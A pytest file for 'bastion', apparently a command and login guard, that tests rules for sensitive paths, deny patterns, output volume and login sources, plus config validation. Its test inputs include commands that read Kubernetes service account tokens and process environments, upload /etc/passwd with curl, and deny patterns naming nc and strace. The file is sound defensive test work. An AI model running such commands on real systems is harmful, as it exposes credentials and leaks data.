"""The guard's pure rules, and the ``guard`` config section that builds them."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from bastion.config.guard import DEFAULT_SENSITIVE_PATHS, Guard
from bastion.guard_rules import (
    Action,
    CommandRules,
    DenyPattern,
    OutputMeter,
    Trigger,
    check_command,
    check_failures,
    check_source,
    paths_in,
)

DEFAULTS = Guard().command_rules()


@pytest.mark.parametrize(
    "command",
    [
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /run/secrets/kubernetes.io/serviceaccount/token",
        "cat //var/run/./secrets/kubernetes.io/serviceaccount/token",
        "ls /var/run/secrets/../secrets/x",
        "tr '\\0' '\\n' < /proc/1/environ",
        "cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/namespace",
        "grep -a TOKEN /proc/self/environ|head",
        'curl -H "Authorization: Bearer $(cat /var/run/secrets/k/token)" https://api',
    ],
)
def test_default_sensitive_paths_trip(command: str) -> None:
    triggers = check_command(DEFAULTS, command)
    assert [t.rule for t in triggers] == ["sensitive_path"]
    assert triggers[0].action is Action.WARN


@pytest.mark.parametrize(
    "command",
    ["ls /var/run", "cat /proc/1/status", "echo secrets", "cat /var/run/secretsx", "ps"],
)
def test_ordinary_commands_do_not_trip(command: str) -> None:
    assert check_command(DEFAULTS, command) == []


def test_denied_commands_glob_whole_line_and_regex_anywhere() -> None:
    rules = CommandRules(
        deny=(DenyPattern(glob="curl * -T *"), DenyPattern(regex=re.compile(r"\bstrace\b"))),
        deny_action=Action.END,
    )
    assert check_command(rules, "curl https://x -T /etc/passwd") == [
        Trigger("denied_command", Action.END, "curl https://x -T /etc/passwd (matches curl * -T *)")
    ]
    assert [t.rule for t in check_command(rules, "timeout 5 strace -p 1")] == ["denied_command"]
    assert check_command(rules, "curl https://x") == []
    assert check_command(rules, "echo curl https://x -T y") == []  # a glob is the whole line


def test_one_trigger_per_rule() -> None:
    rules = CommandRules(
        sensitive_paths=DEFAULT_SENSITIVE_PATHS,
        sensitive_action=Action.ALERT,
        deny=(DenyPattern(glob="cat *"),),
        deny_action=Action.END,
    )
    triggers = check_command(rules, "cat /proc/1/environ /proc/2/environ")
    assert [(t.rule, t.action) for t in triggers] == [
        ("sensitive_path", Action.ALERT),
        ("denied_command", Action.END),
    ]


def test_output_meter_trips_once_past_the_limit_within_the_window() -> None:
    meter = OutputMeter(1000, 10, Action.END)
    assert meter.add(600, now=100.0) is None
    assert meter.add(400, now=105.5) is None  # exactly the limit
    trigger = meter.add(1, now=109.9)
    assert trigger is not None
    assert (trigger.rule, trigger.action) == ("output_volume", Action.END)
    assert meter.add(10_000, now=110.0) is None  # once


def test_output_meter_forgets_what_left_the_window() -> None:
    meter = OutputMeter(1000, 10, Action.WARN)
    for second in range(100):
        assert meter.add(99, now=float(second)) is None  # 990 a window, never more


@given(st.lists(st.tuples(st.integers(0, 5000), st.floats(0, 5, allow_nan=False)), max_size=60))
def test_output_meter_agrees_with_a_plain_count(steps: list[tuple[int, float]]) -> None:
    meter = OutputMeter(20_000, 7, Action.WARN)
    now = 1000.0
    seen: list[tuple[int, int]] = []
    tripped_at = None
    for i, (size, gap) in enumerate(steps):
        now += gap
        seen.append((int(now), size))
        in_window = sum(s for t, s in seen if t > int(now) - 7)
        got = meter.add(size, now)
        if tripped_at is None and in_window > 20_000:
            tripped_at = i
            assert got is not None
        else:
            assert got is None


def test_login_rules() -> None:
    assert check_source(Action.ALERT, "alice", "192.0.2.7", known=True) is None
    assert check_source(None, "alice", "192.0.2.7", known=False) is None
    assert check_source(Action.END, "alice", "192.0.2.7", known=False) == Trigger(
        "new_source", Action.END, "alice logged in from 192.0.2.7 for the first time"
    )
    assert check_failures(Action.ALERT, "192.0.2.9", 9, 4, limit=10) is None
    fired = check_failures(Action.ALERT, "192.0.2.9", 10, 4, limit=10)
    assert fired is not None
    assert fired.rule == "failures_from_source"
    assert check_failures(Action.ALERT, "192.0.2.9", 11, 4, limit=10) is None  # once


def test_paths_in_finds_absolute_paths_only() -> None:
    assert paths_in("cd /tmp && cat a /etc//passwd >/dev/null x=/y") == [
        "/tmp",
        "/etc/passwd",
        "/dev/null",
        "/y",
    ]


# ------------------------------------------------------------------------------ config
def test_config_defaults_and_errors() -> None:
    assert Guard().actions() == {Action.WARN}
    guard = Guard.model_validate(
        {
            "output_volume": {"bytes": 4096, "window": "30s", "action": "end"},
            "denied_commands": {"action": "alert", "patterns": [{"glob": "nc *"}]},
            "sensitive_paths": None,
        }
    )
    assert guard.actions() == {Action.END, Action.ALERT}
    assert guard.command_rules().sensitive_action is None
    bad = [
        ({"denied_commands": {"action": "end", "patterns": [{"regex": "("}]}}, "does not compile"),
        ({"denied_commands": {"action": "end", "patterns": [{}]}}, "either 'glob' or 'regex'"),
        ({"sensitive_paths": {"paths": ["var/run"]}}, "must be absolute"),
        ({"output_volume": {"bytes": 4096, "action": "stop"}}, "'warn', 'alert' or 'end'"),
        ({"failures_from_source": {"count": 5, "action": "block"}}, "'warn', 'alert' or 'end'"),
        ({"failures_from_source": {"count": 1, "action": "end"}}, "greater than or equal to 2"),
        ({"failures_from_source": {"count": 5, "window": "0s", "action": "end"}}, "than zero"),
        ({"new_source": {"action": "alert", "extra": 1}}, "Extra inputs"),
        ({"new_source": {"action": "refuse"}}, "'warn', 'alert' or 'end'"),
    ]
    for data, message in bad:
        with pytest.raises(ValidationError, match=re.escape(message)):
            Guard.model_validate(data)


@pytest.mark.parametrize("action", ["warn", "alert", "end"])
def test_the_login_rules_take_every_action(action: str) -> None:
    guard = Guard.model_validate(
        {"new_source": {"action": action}, "failures_from_source": {"count": 3, "action": action}}
    )
    assert guard.new_source is not None
    assert guard.failures_from_source is not None
    assert guard.new_source.action == guard.failures_from_source.action == Action(action)
